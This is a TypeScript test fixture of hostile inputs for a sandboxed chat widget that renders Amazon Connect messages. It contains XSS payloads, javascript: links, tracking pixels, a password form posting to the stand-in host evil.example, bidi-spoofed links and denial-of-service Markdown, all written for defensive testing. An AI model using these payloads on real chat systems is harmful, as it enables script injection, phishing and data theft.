import { HOSTILE_TEXTS, PROTOTYPE_NAMES } from '../src/content/hostile-values.fixture.ts'
import { HOSTILE_CONTENTS } from '../src/content/templates/hostile.fixture.ts'
import { HOSTILE_VIEWS } from '../src/content/views/hostile.fixture.ts'
import type { ContactHandle } from '../src/sandbox.ts'

/** What untrusted bots, agents and tools can send, as items of Connect. */
export interface HostileItem {
  readonly name: string
  readonly item: Parameters<ContactHandle['pushes']>[0]
  /** What DescribeView answers for the item's token. */
  readonly view?: unknown
}

const EVENT = 'application/vnd.amazonaws.connect.event.'
const INTERACTIVE = 'application/vnd.amazonaws.connect.message.interactive'

/** Markdown that is large, deep, unfinished or has forbidden destinations. */
const HOSTILE_MARKDOWN: readonly string[] = [
  `${'> '.repeat(2_000)}deep`,
  `${'- '.repeat(2_000)}deep`,
  Array.from({ length: 500 }, (_, level) => `${'  '.repeat(level)}- level ${level}`).join('\n'),
  `|${'a|'.repeat(300)}\n|${'-|'.repeat(300)}\n${`|${'W'.repeat(30)}`.repeat(300)}|`,
  `| a |\n|---|\n${'| x |\n'.repeat(1_500)}`,
  'word '.repeat(10_000),
  '# '.repeat(3_000),
  `${'`'.repeat(2_000)}open`,
  `\`\`\`html\n<script>window.hacked=1</script>\n${'W'.repeat(2_000)}\n`,
  '[a]: javascript:window.hacked=1\n\n[a] [a][] [b][a]',
  '<https://evil.example/?q=<script>> <javascript:window.hacked=1>',
  '![p](https://evil.example/pixel.png) ![p][r]\n\n[r]: https://evil.example/other.png',
  '<img src="https://evil.example/pixel.png"><video src="https://evil.example/v.mp4" autoplay></video>',
  '<link rel="stylesheet" href="https://evil.example/s.css"><style>*{display:none}</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">\n<base href="https://evil.example/">',
  '<form action="https://evil.example/"><input name="password"><button>Go</button></form>',
  '[\u202ehttps://bank.example\u202c](https://evil.example/)',
  '\u202e# heading\n\n- \u2067item\n\n> \u202equote',
]

const NAMED: Readonly<Record<string, (name: string) => HostileItem['item']>> = {
  'a message from': (DisplayName) => ({
    ...{ ParticipantRole: 'AGENT', ContentType: 'text/plain', Content: 'Good morning' },
    ...{ DisplayName, ParticipantId: `agent-${DisplayName.length}` },
  }),
  'the arrival of': (DisplayName) => ({
    ...{ ParticipantRole: 'AGENT', Type: 'EVENT', ContentType: `${EVENT}participant.joined` },
    ...{ DisplayName, ParticipantId: 'agent-1' },
  }),
  'a transfer to': (DisplayName) => ({
    ...{ ParticipantRole: 'AGENT', Type: 'EVENT', ContentType: `${EVENT}transfer.succeeded` },
    ...{ DisplayName, ParticipantId: 'agent-2' },
  }),
}

const CONTENT_TYPES = [
  'application/json',
  'text/html',
  'image/svg+xml',
  'constructor/x',
  '<script>',
  '\u202etxt',
  ...PROTOTYPE_NAMES,
]

function interactive(Content: string): HostileItem['item'] {
  return { ParticipantRole: 'SYSTEM', DisplayName: 'BOT', ContentType: INTERACTIVE, Content }
}

/** Templates of every kind with every hostile value, malformed and large ones. */
export const HOSTILE_TEMPLATE_ITEMS: readonly HostileItem[] = HOSTILE_CONTENTS.filter(
  ([, content]) => content !== '',
).map(([name, content]) => ({ name, item: interactive(content) }))

const VIEW_ITEMS: readonly HostileItem[] = HOSTILE_VIEWS.map(([name, { answer, viewData }], index) => {
  const content = { viewId: 'view', viewToken: `hostile-${index}`, viewData }
  return {
    ...{ name, view: answer },
    item: interactive(JSON.stringify({ templateType: 'ViewResource', version: '1.0', data: { content } })),
  }
})

const isObject = ({ view }: HostileItem): boolean =>
  typeof view === 'object' && view !== null && !Array.isArray(view)

/** Views whose template or data is hostile. */
export const HOSTILE_VIEW_ITEMS: readonly HostileItem[] = VIEW_ITEMS.filter(isObject)

/** Views that DescribeView does not describe: each is requested again, as after an answer of a broken gateway. */
export const UNDESCRIBED_VIEW_ITEMS: readonly HostileItem[] = VIEW_ITEMS.filter((item) => !isObject(item))

/** Hostile texts as plain text, as Markdown, as the names of people and of files, and under unknown content types. */
export const HOSTILE_TEXT_ITEMS: readonly HostileItem[] = [
  ...HOSTILE_TEXTS.flatMap((text): readonly HostileItem[] => {
    const name = JSON.stringify(text.slice(0, 30))
    return [
      {
        name: `text ${name}`,
        item: { ParticipantRole: 'AGENT', ContentType: 'text/plain', Content: text },
      },
      {
        name: `Markdown ${name}`,
        item: { ParticipantRole: 'CUSTOM_BOT', ContentType: 'text/markdown', Content: text },
      },
    ]
  }),
  ...HOSTILE_MARKDOWN.map((text) => ({
    name: `Markdown ${JSON.stringify(text.slice(0, 30))}`,
    item: { ParticipantRole: 'CUSTOM_BOT', ContentType: 'text/markdown', Content: text } as const,
  })),
  ...CONTENT_TYPES.map((ContentType) => ({
    name: `the content type ${ContentType}`,
    item: { ParticipantRole: 'SYSTEM', ContentType, Content: '<script>window.hacked=1</script>' } as const,
  })),
]

/** Hostile names of people and of files. */
export const HOSTILE_NAME_ITEMS: readonly HostileItem[] = [
  ...Object.entries(NAMED).flatMap(([what, item]) =>
    HOSTILE_TEXTS.map((text) => ({ name: `${what} ${JSON.stringify(text.slice(0, 30))}`, item: item(text) })),
  ),
  ...HOSTILE_TEXTS.map((text, index) => ({
    name: `the file ${JSON.stringify(text.slice(0, 30))}`,
    item: {
      ...({ ParticipantRole: 'AGENT', Type: 'ATTACHMENT', ContentType: 'application/pdf' } as const),
      Attachments: [
        {
          ...({ ContentType: 'application/pdf', Status: 'APPROVED' } as const),
          AttachmentId: `a1b2c3d4-0000-4000-8000-${String(index).padStart(12, '0')}`,
          AttachmentName: text,
        },
      ],
    },
  })),
]
